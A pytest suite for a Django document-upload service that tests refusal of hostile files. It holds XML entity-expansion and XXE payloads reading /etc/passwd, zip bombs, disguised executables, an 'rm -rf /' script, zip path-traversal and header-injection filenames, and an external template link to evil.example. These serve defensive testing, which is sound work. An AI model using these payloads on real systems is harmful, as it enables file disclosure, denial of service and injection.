"""What is sent in as a file: told by its content, opened within bounds, named so that nothing hides."""

import io
import struct
import time
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from tests.reading.making import open_sheet, with_part, word_file, workbook_table, zip_of
from tests.reading.pdf_writer import PdfWriter

from caunoi.reading import read
from caunoi.reading.errors import UnreadableDocument
from caunoi.reading.pdf import reader as pdf_reader
from caunoi_web.signing.docx_filling import NotADocx, fields_in
from caunoi_web.sources.errors import NotStored
from caunoi_web.sources.models import Document
from caunoi_web.sources.names import clean_name
from caunoi_web.sources.originals import path_of
from caunoi_web.sources.services import keep_file, receive_file
from caunoi_web.sources.services.unpacking import receive_documents

MEGABYTE = 1024 * 1024
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "haha">'
    + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">'
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
FETCH = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'


def picture(width: int, height: int) -> bytes:
    """A PNG that says it is of this size and holds next to nothing."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def word_of(xml: str) -> bytes:
    return with_part(word_file(lambda word: None), "word/document.xml", xml.encode())


def packed(size: int) -> bytes:
    """A file of zeros that packs to a thousandth."""
    return bytes(size)


HOSTILE = {
    "laughs in Word": ("a.docx", lambda: word_of(LAUGHS + "<w:document>&i;</w:document>")),
    "fetching in Word": ("a.docx", lambda: word_of(FETCH + "<w:document>&secret;</w:document>")),
    "laughs in Excel": (
        "a.xlsx",
        lambda: with_part(
            workbook_table([["a"]]), "xl/sharedStrings.xml", (LAUGHS + "<sst>&i;</sst>").encode()
        ),
    ),
    "laughs in OpenDocument": ("a.ods", lambda: with_part(open_sheet(""), "content.xml", LAUGHS.encode())),
    "a bomb in Word": (
        "a.docx",
        lambda: with_part(word_file(lambda word: None), "word/media/image1.bmp", packed(60 * MEGABYTE)),
    ),
    "a bomb in Excel": (
        "a.xlsx",
        lambda: with_part(workbook_table([["a"]]), "xl/worksheets/sheet1.xml", packed(60 * MEGABYTE)),
    ),
    "too many parts": (
        "a.docx",
        lambda: zip_of({"word/document.xml": b"<a/>"} | {f"word/{number}": b"" for number in range(10_001)}),
    ),
    "a picture of too many pixels": ("a.png", lambda: picture(60_000, 60_000)),
    "a stream without end in a PDF": ("a.pdf", lambda: PdfWriter().page().commands(" " * 110_000_000).data()),
    "a program called PDF": ("a.pdf", lambda: b"MZ\x90\0" + bytes(200)),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_file_is_refused_in_words_before_it_costs_anything(kind):
    name, make = HOSTILE[kind]
    data = make()
    start = time.process_time()

    with pytest.raises(UnreadableDocument) as refused:
        read(data, name)

    assert refused.value.code in {"bomb", "too-large", "truncated", "wrong-type"}
    assert "root:" not in refused.value.reason
    assert time.process_time() - start < 20, "an order of magnitude over what any machine needs"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.html", LAUGHS + "<html><body><p>Thoả thuận hợp tác &i; &secret;</p></body></html>"),
        ("a.html", FETCH + "<html><body><p>Thoả thuận hợp tác &secret;</p></body></html>"),
        (
            "a.svg",
            FETCH + '<svg xmlns="http://www.w3.org/2000/svg"><text>Thoả thuận hợp tác &secret;</text></svg>',
        ),
    ],
)
def test_entities_of_a_web_page_or_a_drawing_are_never_followed(name, data):
    text = read(data.encode(), name).text

    assert "Thoả thuận hợp tác" in text
    assert "root:" not in text
    assert text.count("haha") <= 1
    assert len(text) < 2000


def test_a_pdf_of_too_many_pages_is_refused(monkeypatch):
    monkeypatch.setattr(pdf_reader, "MAX_PAGES", 3)
    file = PdfWriter()
    for _ in range(4):
        file.page().text(50, 50, "Thoả thuận hợp tác")

    with pytest.raises(UnreadableDocument) as refused:
        read(file.data(), "a.pdf")

    assert refused.value.code == "too-large"


def test_the_kind_of_a_file_is_told_by_its_content_not_by_its_name(officer):
    word = word_file(lambda word: word.add_paragraph("Biên bản ghi nhớ"))

    document = keep_file(actor=officer, name="ảnh.jpg", data=word).document

    assert document.media_type.endswith("wordprocessingml.document")
    assert "Biên bản ghi nhớ" in read(word, "ảnh.jpg").text


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("biên bản.pdf", b"MZ\x90\0\x03\0\0\0" + bytes(100)),
        ("biên bản.docx", b"\x7fELF\x02\x01\x01"),
        ("biên bản.txt", b"#!/bin/sh\nrm -rf /\n"),
        ("biên bản.pdf.exe", b"hello"),
        ("biên bản.HTA", b"<script>"),
        ("phụ lục-\u202efdp.scr", b"hello"),
        ("mở.lnk", b"L\0\0\0\x01\x14\x02\0"),
    ],
)
@pytest.mark.parametrize("way", [receive_file, keep_file])
def test_a_program_is_never_kept_whatever_it_is_called(officer, way, name, data):
    with pytest.raises(NotStored):
        way(actor=officer, name=name, data=data)

    assert not Document.objects.exists()


def test_a_text_that_begins_like_a_program_is_a_text(officer):
    receive_file(actor=officer, name="a.txt", data="MZ là tên viết tắt của một đối tác".encode())

    assert Document.objects.exists()


def test_a_program_in_an_archive_is_refused_and_the_rest_is_kept(officer):
    archive = zip_of({"a.txt": "Biên bản ghi nhớ".encode(), "b.exe": b"MZ\x90\0" + bytes(50)})

    taken = list(receive_documents(actor=officer, name="a.zip", data=archive))

    assert [bool(one.refusal) for one in taken] == [False, True]
    assert Document.objects.count() == 1


@pytest.mark.parametrize(
    "path",
    ["../../../etc/cron.d/x.txt", "/etc/passwd.txt", "..\\..\\windows\\x.txt", "C:\\x.txt", "a/../../x.txt"],
)
def test_a_path_in_an_archive_is_only_a_name_and_writes_nowhere(officer, path, settings):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(path, "Biên bản ghi nhớ")

    taken = list(receive_documents(actor=officer, name="a.zip", data=target.getvalue()))

    documents = [one.receipt.document for one in taken if one.receipt]
    assert all(not set("/\\") & set(one.name) and ".." not in one.name for one in documents)
    kept = [file for file in settings.MEDIA_ROOT.rglob("*") if file.is_file()]
    assert kept == [path_of(one.sha256) for one in documents]


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("phụ lục-\u202efdp.exe", "phụ lục-fdp.exe"),
        ("a\u2066b\u2069\u200f.pdf", "ab.pdf"),
        ("a\r\nSet-Cookie: x=y.pdf", "aSet-Cookie: x=y.pdf"),
        ("a\u2028b\u2029\u0085.pdf", "ab.pdf"),
        ("\ufeff\u200b.pdf", "pdf"),
        ("a\0.exe\0.pdf", "a.exe.pdf"),
        ("Biên bản ghi nhớ – Đại học Huế (bản ký).pdf", "Biên bản ghi nhớ – Đại học Huế (bản ký).pdf"),
    ],
)
def test_nothing_hides_in_a_name(name, clean):
    assert clean_name(name) == clean


@pytest.mark.parametrize(
    "name", ["a\r\nSet-Cookie: x=y.txt", 'a"; filename="b.exe.txt', "Biên bản ghi nhớ.txt"]
)
def test_the_name_of_a_file_that_is_sent_back_splits_no_header(client_as, officer, name):
    document = receive_file(actor=officer, name=name, data=b"Bien ban ghi nho").document

    answer = client_as("officer").get(reverse("sources:original", args=[document.pk]))

    sent = answer["Content-Disposition"]
    answer.close()
    assert sent.startswith("attachment; ")
    assert "\r" not in sent
    assert "\n" not in sent
    assert "Set-Cookie" not in answer.headers
    assert sent.replace('\\"', "").count('"') in (0, 2)
    assert answer["Content-Type"] == "application/octet-stream"


def test_a_page_sent_in_is_never_opened_on_this_site(client_as, officer):
    document = receive_file(
        actor=officer, name="x.html", data=b"<script>alert(1)</script><p>Bien ban ghi nho</p>"
    ).document

    answer = client_as("officer").get(reverse("sources:original", args=[document.pk]))
    answer.close()

    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"


def test_an_upload_over_the_limit_is_dropped_while_it_arrives(client_as, settings):
    settings.UPLOAD_LIMIT = 1000
    file = SimpleUploadedFile("a.txt", b"x" * 70_000)

    answer = client_as("officer").post(reverse("sources:upload"), {"files": file})

    assert answer.status_code < 500
    assert not Document.objects.exists()


RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" TargetMode="External" Target="http://evil.example/x.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'
)


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/vbaProject.bin", "x"),
        ("word/_rels/settings.xml.rels", RELATION.format(kind="attachedTemplate")),
        ("word/_rels/footnotes.xml.rels", RELATION.format(kind="oleObject")),
        ("word/_rels/footnotes.xml.rels", RELATION.format(kind="image")),
        ("word/document.xml", LAUGHS + "<w:document/>"),
    ],
)
def test_a_template_that_does_something_by_itself_is_refused(part, content):
    with pytest.raises(NotADocx):
        fields_in(with_part(word_file(lambda word: None), part, content.encode()))


def test_a_template_with_a_link_to_press_is_taken():
    with_link = with_part(
        word_file(lambda word: word.add_paragraph("{{ title }}")),
        "word/_rels/footnotes.xml.rels",
        RELATION.format(kind="hyperlink").encode(),
    )

    assert fields_in(with_link) == ["title"]
